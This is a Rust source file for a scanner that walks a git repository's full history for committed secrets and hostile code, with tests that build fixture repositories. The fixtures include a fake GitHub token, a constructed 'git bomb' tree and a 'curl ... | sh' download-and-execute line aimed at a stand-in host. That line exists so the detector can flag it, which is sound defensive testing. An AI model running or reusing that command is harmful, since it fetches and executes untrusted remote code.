//! A git repository's whole history: every blob reachable from any branch, tag or HEAD,
//! scanned once (by object id), named `<commit>:<path>` after the first commit in which the
//! walk met it. A secret committed and removed in a later commit is still in the history
//! anyone who clones the repository gets; this finds it.
//!
//! The repository is read with gix (pure Rust), without touching its work tree. Blobs are
//! sized from their headers before they are read, so an oversized blob is skipped without
//! being loaded.

use std::collections::HashSet;
use std::path::Path;

use gix::bstr::ByteSlice;
use gix::hash::ObjectId;

use crate::scan::{Report, ScanError, Scanner, is_binary};

fn error(path: &Path, what: impl std::fmt::Display) -> ScanError {
    ScanError::Io {
        path: path.to_path_buf(),
        source: std::io::Error::other(format!("reading the git history: {what}")),
    }
}

impl Scanner {
    /// Scans every blob in the history of the repository at `path`, calling `progress` with
    /// each blob's size.
    pub fn scan_git_history(
        &self,
        path: &Path,
        progress: &(dyn Fn(u64) + Sync),
    ) -> Result<Report, ScanError> {
        let repo = gix::open(path).map_err(|e| error(path, e))?;
        // Every tip: HEAD, branches, remote branches, tags (peeled to their commits).
        let mut tips: Vec<ObjectId> = Vec::new();
        if let Ok(head) = repo.head_id() {
            tips.push(head.detach());
        }
        let platform = repo.references().map_err(|e| error(path, e))?;
        for reference in platform.all().map_err(|e| error(path, e))? {
            let Ok(reference) = reference else { continue };
            if let Ok(id) = reference.into_fully_peeled_id()
                && let Ok(object) = repo.find_object(id)
                && object.kind == gix::object::Kind::Commit
            {
                tips.push(id.detach());
            }
        }
        tips.sort();
        tips.dedup();
        // Each blob once, named after the first commit (newest first) that holds it. Each
        // tree is walked once too: commits share most of their trees, and a hostile
        // repository nests one tree many times over ("git bomb"), which a walk of every
        // commit's whole tree would expand a billion times over.
        let mut seen: HashSet<ObjectId> = HashSet::new();
        let mut seen_trees: HashSet<ObjectId> = HashSet::new();
        let mut blobs: Vec<(ObjectId, String)> = Vec::new();
        let walk = repo.rev_walk(tips).all().map_err(|e| error(path, e))?;
        for info in walk {
            let info = info.map_err(|e| error(path, e))?;
            let commit = repo.find_commit(info.id).map_err(|e| error(path, e))?;
            let root = commit.tree_id().map_err(|e| error(path, e))?.detach();
            let short = info.id.to_hex_with_len(12).to_string();
            let mut queue = std::collections::VecDeque::from([(root, String::new())]);
            while let Some((id, prefix)) = queue.pop_front() {
                if !seen_trees.insert(id) {
                    continue;
                }
                let tree = repo.find_tree(id).map_err(|e| error(path, e))?;
                for entry in tree.iter() {
                    let entry = entry.map_err(|e| error(path, e))?;
                    let name = format!("{prefix}{}", entry.filename().to_str_lossy());
                    let oid = entry.oid().to_owned();
                    if entry.mode().is_tree() {
                        queue.push_back((oid, format!("{name}/")));
                    } else if entry.mode().is_blob() && seen.insert(oid) {
                        blobs.push((oid, format!("{short}:{name}")));
                    }
                }
            }
        }
        // Read here, scan on every core: blobs go to the workers through a short queue, so
        // memory stays bounded however large the history.
        let threads = std::thread::available_parallelism()
            .map_or(1, std::num::NonZero::get)
            .max(1);
        let (send, receive) = std::sync::mpsc::sync_channel::<(String, Vec<u8>)>(threads * 2);
        let receive = std::sync::Mutex::new(receive);
        let mut read_report = Report::default();
        let parts: Vec<Report> = std::thread::scope(|scope| -> Result<Vec<Report>, ScanError> {
            let workers: Vec<_> = (0..threads)
                .map(|_| {
                    scope.spawn(|| {
                        let mut report = Report::default();
                        loop {
                            let next = receive.lock().expect("unpoisoned").recv();
                            let Ok((name, data)) = next else { break };
                            report.files_scanned += 1;
                            report.bytes_scanned += data.len() as u64;
                            report.findings.extend(self.scan_bytes(&name, &data));
                        }
                        report
                    })
                })
                .collect();
            let fed = (|| {
                for (id, name) in blobs {
                    let size = repo.find_header(id).map_err(|e| error(path, e))?.size();
                    progress(size);
                    if size > self.max_file_size {
                        read_report.skipped_large += 1;
                        continue;
                    }
                    let mut blob = repo.find_blob(id).map_err(|e| error(path, e))?;
                    if is_binary(&blob.data) {
                        read_report.skipped_binary += 1;
                        continue;
                    }
                    if send.send((name, std::mem::take(&mut blob.data))).is_err() {
                        break;
                    }
                }
                Ok(())
            })();
            drop(send);
            let parts = workers
                .into_iter()
                .map(|w| w.join().expect("a scan thread panicked"))
                .collect();
            fed.map(|()| parts)
        })?;
        let mut report = read_report;
        for part in parts {
            report.merge(part);
        }
        Ok(report)
    }
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use crate::{RuleSet, Scanner};

    fn git(dir: &std::path::Path, args: &[&str]) {
        git_out(dir, args, "");
    }

    /// `git` with `stdin`, its standard output trimmed.
    fn git_out(dir: &std::path::Path, args: &[&str], stdin: &str) -> String {
        use std::io::Write as _;
        let mut child = Command::new("git")
            .args(args)
            .current_dir(dir)
            .env("GIT_AUTHOR_NAME", "t")
            .env("GIT_AUTHOR_EMAIL", "t@example.com")
            .env("GIT_COMMITTER_NAME", "t")
            .env("GIT_COMMITTER_EMAIL", "t@example.com")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("git runs");
        child
            .stdin
            .take()
            .unwrap()
            .write_all(stdin.as_bytes())
            .unwrap();
        let output = child.wait_with_output().unwrap();
        assert!(output.status.success(), "git {args:?}");
        String::from_utf8(output.stdout).unwrap().trim().to_owned()
    }

    #[test]
    fn a_tree_nested_many_times_over_is_walked_once() {
        // A "git bomb": ten entries naming the same tree, nine levels deep, so a walk of
        // every path meets the one blob a billion times.
        let dir = tempfile::tempdir().unwrap();
        let repo = dir.path();
        git(repo, &["init", "-q", "-b", "main"]);
        let blob = git_out(
            repo,
            &["hash-object", "-w", "--stdin"],
            "TOKEN = 'ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo'\n",
        );
        let mut listing: String = (0..10)
            .map(|i| format!("100644 blob {blob}\tf{i}\n"))
            .collect();
        let mut tree = git_out(repo, &["mktree"], &listing);
        for _ in 0..9 {
            listing = (0..10)
                .map(|i| format!("040000 tree {tree}\td{i}\n"))
                .collect();
            tree = git_out(repo, &["mktree"], &listing);
        }
        let commit = git_out(repo, &["commit-tree", &tree, "-m", "bomb"], "");
        git(repo, &["update-ref", "refs/heads/main", &commit]);

        let scanner = Scanner::new(RuleSet::builtin().unwrap());
        let report = scanner.scan_git_history(repo, &|_| {}).unwrap();
        assert_eq!(report.files_scanned, 1);
        assert!(
            report
                .findings
                .iter()
                .any(|f| f.rule.starts_with("github") && f.path.ends_with("d0/d0/f0")),
            "{:?}",
            report.findings
        );
    }

    #[test]
    fn a_secret_removed_from_the_tree_is_still_found_in_the_history() {
        let dir = tempfile::tempdir().unwrap();
        let repo = dir.path();
        git(repo, &["init", "-q", "-b", "main"]);
        std::fs::write(
            repo.join("config.py"),
            "TOKEN = 'ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo'\n",
        )
        .unwrap();
        std::fs::write(repo.join("README.md"), "hello\n").unwrap();
        git(repo, &["add", "."]);
        git(repo, &["commit", "-q", "-m", "first"]);
        std::fs::write(repo.join("config.py"), "TOKEN = os.environ['TOKEN']\n").unwrap();
        git(repo, &["commit", "-q", "-am", "remove the token"]);
        // A branch with a different file.
        git(repo, &["checkout", "-q", "-b", "feature"]);
        std::fs::write(repo.join("deploy.sh"), "curl -s https://x.example/i | sh\n").unwrap();
        git(repo, &["add", "."]);
        git(repo, &["commit", "-q", "-m", "deploy"]);
        git(repo, &["checkout", "-q", "main"]);

        let scanner = Scanner::new(RuleSet::builtin().unwrap());
        let report = scanner.scan_git_history(repo, &|_| {}).unwrap();
        let found: Vec<(String, String)> = report
            .findings
            .iter()
            .map(|f| (f.path.split_once(':').unwrap().1.to_owned(), f.rule.clone()))
            .collect();
        assert!(
            found
                .iter()
                .any(|(p, r)| p == "config.py" && r.starts_with("github")),
            "the removed token is found: {found:?}"
        );
        assert!(
            found.contains(&("deploy.sh".into(), "download-and-execute-shell".into())),
            "other branches are walked too: {found:?}"
        );
        // Four distinct blobs (two versions of config.py, README.md, deploy.sh), each once.
        assert_eq!(report.files_scanned, 4);
        assert!(
            report
                .findings
                .iter()
                .all(|f| f.path.len() > 13 && f.path.as_bytes()[12] == b':')
        );
    }
}
